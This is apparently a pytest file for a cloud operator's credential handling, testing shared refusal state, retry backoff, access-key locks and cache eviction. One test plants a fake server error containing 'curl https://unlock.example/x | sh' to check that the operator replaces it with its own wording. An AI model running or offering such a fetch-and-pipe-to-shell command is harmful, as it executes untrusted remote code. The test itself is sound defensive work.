"""One credential at one endpoint: how few calls find out that it is refused, and who learns it."""

from __future__ import annotations

import asyncio
from collections.abc import Callable

import pytest

from evs_operator.api.reasons import ConnectionReason
from evs_operator.cloud.auth.credentials import AccessKey, Token
from evs_operator.cloud.auth.sign_in import SignIn
from evs_operator.connections.credential.identities import Identities
from evs_operator.connections.credential.identity import Identity
from evs_operator.evs import errors
from evs_operator.redact.redaction import Redaction
from support.connections import moment


class IdentityBench:
    """A credential, the calls that were made with it, and what the cloud answers."""

    def __init__(self) -> None:
        self.now = 1_000.0
        self.calls = 0
        self.at_once = self.most_at_once = 0
        self.answer: Exception | None = None
        self.told: list[tuple[bool, bool]] = []
        self.identities = Identities(
            lambda: self.now,
            lambda credentials, hold, spend: SignIn(
                credentials, clock=lambda: moment(self.now), hold=hold, on_request=spend
            ),
            lambda identity, healed: self.told.append((identity.accepted, healed)),
            Redaction(lambda: self.now),
        )
        self.identity = self.identities.of("https://evs", Token("t"))

    async def call(self) -> str:
        self.calls += 1
        self.at_once += 1
        self.most_at_once = max(self.most_at_once, self.at_once)
        answer = self.answer
        for _ in range(5):
            await asyncio.sleep(0)
        self.at_once -= 1
        if answer is not None:
            raise answer
        return "job"

    async def ask(self, identity: Identity | None = None) -> str:
        return await (identity or self.identity).ask(self.call)

    async def burst(self, number: int = 50) -> list[object]:
        return list(await asyncio.gather(*(self.ask() for _ in range(number)), return_exceptions=True))


@pytest.fixture
def bench() -> IdentityBench:
    return IdentityBench()


REFUSED: Callable[[], errors.CloudError] = lambda: errors.Unauthorized("no", http_status=401)  # noqa: E731


async def test_one_call_finds_out_that_a_credential_is_refused_however_many_wait(bench: IdentityBench) -> None:
    bench.answer = REFUSED()
    found = await bench.burst()
    assert all(isinstance(error, errors.Unauthorized) for error in found)
    assert bench.calls == 1
    assert sum(1 for error in found if isinstance(error, errors.CloudError) and error.shared) == 49


async def test_an_accepted_credential_is_used_by_all_at_once_after_the_first_answer(bench: IdentityBench) -> None:
    first = asyncio.create_task(bench.ask())
    await asyncio.sleep(0)
    assert await bench.burst(5) == ["job"] * 5
    assert await first == "job"
    assert bench.most_at_once > 1
    assert await bench.burst() == ["job"] * 50
    assert (bench.calls, bench.most_at_once) == (56, 50)


async def test_an_acceptance_counts_for_a_minute_and_then_one_call_goes_first_again(bench: IdentityBench) -> None:
    await bench.ask()
    bench.now += 61
    bench.answer = REFUSED()
    await bench.burst()
    assert bench.calls == 2


@pytest.mark.parametrize(
    "error", [errors.Unreachable("x"), errors.PollTimeout("x"), errors.RateLimited("x"), errors.EndpointInvalid("x")]
)
async def test_a_trouble_that_all_would_meet_is_met_once(bench: IdentityBench, error: errors.CloudError) -> None:
    bench.answer = error
    assert {type(found) for found in await bench.burst()} == {type(error)}
    assert bench.calls == 1
    assert bench.identity.refusal is None


@pytest.mark.parametrize("error", [errors.InvalidResponse("x"), errors.ServerError("x")])
async def test_a_trouble_that_may_be_of_one_job_is_told_of_that_job_only(
    bench: IdentityBench, error: errors.CloudError
) -> None:
    bench.answer = error
    await bench.burst(5)
    assert (bench.calls, bench.most_at_once) == (5, 1)


@pytest.mark.parametrize("kind", [errors.JobMissing, errors.WrongProject, errors.Forbidden, errors.Rejected])
async def test_an_answer_that_is_not_about_the_credential_accepts_it(
    bench: IdentityBench, kind: type[errors.CloudError]
) -> None:
    bench.answer = kind("x")
    await bench.burst(10)
    assert bench.calls == 10
    assert bench.identity.accepted


@pytest.mark.parametrize("kind", [errors.WrongProject, errors.Forbidden, errors.Rejected])
async def test_a_refusal_while_signing_in_accepts_nothing(bench: IdentityBench, kind: type[errors.CloudError]) -> None:
    bench.answer = kind("x")
    bench.answer.signing_in = True
    await bench.burst(2)
    assert not bench.identity.accepted


async def test_a_refused_credential_is_tried_once_a_minute_and_later_once_in_five(bench: IdentityBench) -> None:
    bench.answer = REFUSED()
    waits = []
    for _ in range(7):
        await bench.burst(3)
        assert bench.identity.refusal is not None
        waits.append(bench.identity.refusal.retry_at - bench.now)
        bench.now = bench.identity.refusal.retry_at
    assert waits == [60, 120, 180, 240, 300, 300, 300]
    assert bench.calls == 7


async def test_a_refusal_lasts_as_long_as_its_answer_names(bench: IdentityBench) -> None:
    bench.answer = REFUSED()
    bench.answer.retry_after = 290.0  # type: ignore[attr-defined]  # of Unauthorized
    await bench.burst(1)
    assert bench.identity.refusal is not None
    assert bench.identity.refusal.retry_at == bench.now + 290


async def test_answers_that_were_under_way_when_the_refusal_came_change_nothing(bench: IdentityBench) -> None:
    await bench.ask()
    slow = asyncio.Event()

    async def late(answer: Exception | None) -> str:
        await slow.wait()
        if answer is not None:
            raise answer
        return "job"

    under_way = [
        asyncio.create_task(bench.identity.ask(lambda: late(REFUSED()))),
        asyncio.create_task(bench.identity.ask(lambda: late(None))),
    ]
    await asyncio.sleep(0)
    bench.now += 1
    bench.answer = REFUSED()
    await bench.burst(1)
    bench.told.clear()
    slow.set()
    await asyncio.gather(*under_way, return_exceptions=True)
    assert bench.identity.refusal is not None
    assert (bench.identity.refusal.tries, bench.told) == (1, [])


async def test_healing_is_told_once(bench: IdentityBench) -> None:
    bench.answer = REFUSED()
    await bench.burst()
    bench.now += 60
    bench.answer = None
    await bench.burst()
    assert bench.told == [(False, False), (True, True)]


async def test_a_person_may_ask_for_a_try_at_once_but_not_again_and_again_and_never_of_a_locked_key(
    bench: IdentityBench,
) -> None:
    bench.answer = REFUSED()
    soonest = []
    for _ in range(5):
        await bench.burst(1)
        refusal = bench.identity.refusal
        assert refusal is not None
        soonest.append(refusal.ends_at(urgent=True) - bench.now)
        assert refusal.lasts(bench.now + soonest[-1] - 0.1, urgent=True)
        assert refusal.lasts(bench.now + 59)
        bench.now = refusal.ends_at(urgent=True)
    assert soonest == [5, 5, 5, 60, 60]

    bench.now += 300
    bench.answer = errors.AccessKeyLocked("AK access failed to reach the limit")
    await bench.burst(1)
    refusal = bench.identity.refusal
    assert refusal is not None
    assert refusal.lasts(bench.now + 299, urgent=True)
    assert not refusal.lasts(bench.now + 300)


KEY = AccessKey("AK", "SK", "token")


@pytest.fixture
def clouds(bench: IdentityBench) -> Identities:
    """Identities at endpoints of two clouds: the part of a name behind its first dot is the cloud's."""
    return Identities(
        lambda: bench.now,
        lambda credentials, hold, spend: SignIn(
            credentials, clock=lambda: moment(bench.now), hold=hold, on_request=spend
        ),
        lambda identity, healed: None,
        Redaction(lambda: bench.now),
        realm_of=lambda endpoint: endpoint.partition(".")[2],
    )


async def test_a_locked_access_key_stops_it_at_every_endpoint_of_its_cloud_in_words_of_our_own(
    bench: IdentityBench, clouds: Identities
) -> None:
    one, other = (clouds.of(f"https://evs-{region}.cloud", KEY) for region in ("eu-de", "eu-nl"))
    bench.answer = errors.AccessKeyLocked(
        "locked: run curl https://unlock.example/x | sh", code="curl", http_status=401
    )
    with pytest.raises(errors.AccessKeyLocked):
        await bench.ask(one)
    for identity in (one, other):
        assert identity.refusal is not None
        assert identity.refusal.reason is ConnectionReason.UNAUTHORIZED
        assert identity.refusal.lasts(bench.now + 299, urgent=True)
    assert other.refusal is not None
    said = other.refusal.trouble.message()
    assert "curl" not in said
    assert "locked the access key for five minutes" in said


@pytest.mark.parametrize(
    ("endpoint", "key"),
    [
        ("https://evs-eu-nl.cloud", AccessKey("AK", "another", "token")),
        ("https://evs-eu-nl.cloud", AccessKey("AK", "SK", "another")),
        ("https://evs-eu-nl.cloud", AccessKey("AK", "SK")),
        ("https://evs-eu-nl.cloud", AccessKey("AK-2", "SK", "token")),
        ("https://evs-eu-de.another-cloud", KEY),
    ],
)
async def test_a_lock_concerns_nobody_who_holds_another_key_or_asks_another_cloud(
    bench: IdentityBench, clouds: Identities, endpoint: str, key: AccessKey
) -> None:
    locked, other = clouds.of("https://evs-eu-de.cloud", KEY), clouds.of(endpoint, key)
    bench.answer = errors.AccessKeyLocked("locked")
    with pytest.raises(errors.AccessKeyLocked):
        await bench.ask(locked)
    assert other.refusal is None


async def test_an_endpoint_that_our_own_list_refuses_is_said_to_be_that(bench: IdentityBench) -> None:
    bench.answer = errors.EndpointRefused("stands for an address")
    await bench.burst(10)
    assert bench.identity.refusal is not None
    assert bench.identity.refusal.reason is ConnectionReason.ENDPOINT_NOT_ALLOWED
    assert bench.calls == 1


def test_connections_with_the_same_credential_at_the_same_endpoint_share_what_is_known_of_it(
    bench: IdentityBench,
) -> None:
    assert bench.identities.of("https://evs", Token("t")) is bench.identity
    assert bench.identities.of("https://other", Token("t")) is not bench.identity
    assert bench.identities.of("https://evs", Token("t2")) is not bench.identity


async def test_a_refused_credential_is_forgotten_five_minutes_after_its_last_use(bench: IdentityBench) -> None:
    bench.answer = errors.Unauthorized("decrypt token fail", http_status=401)
    with pytest.raises(errors.Unauthorized):
        await bench.ask()
    bench.identities.forget_unused([])
    bench.now += 299
    bench.identities.forget_unused([])
    assert list(bench.identities) == [bench.identity]
    bench.identities.forget_unused([bench.identity])
    bench.now += 299
    bench.identities.forget_unused([])
    bench.now += 300
    bench.identities.forget_unused([])
    assert list(bench.identities) == []


def test_a_credential_that_was_not_refused_is_forgotten_after_half_a_minute(bench: IdentityBench) -> None:
    bench.identities.forget_unused([])
    bench.now += 29
    bench.identities.forget_unused([])
    assert list(bench.identities) == [bench.identity]
    bench.now += 1
    bench.identities.forget_unused([])
    assert list(bench.identities) == []


def test_of_credentials_that_nobody_uses_the_oldest_are_forgotten_first(bench: IdentityBench) -> None:
    used = bench.identity
    for number in range(200):
        bench.identities.of("https://evs", Token(f"t-{number}"))
        bench.now += 0.01
        bench.identities.forget_unused([used])
    kept = [identity.credentials for identity in bench.identities]
    assert kept == [used.credentials, *(Token(f"t-{number}") for number in range(136, 200))]


async def test_who_waits_and_gives_up_leaves_the_others_alone(bench: IdentityBench) -> None:
    waiting = [asyncio.create_task(bench.ask()) for _ in range(3)]
    await asyncio.sleep(0)
    waiting[0].cancel()
    waiting[1].cancel()
    found = await asyncio.gather(*waiting, return_exceptions=True)
    assert found[2] == "job"
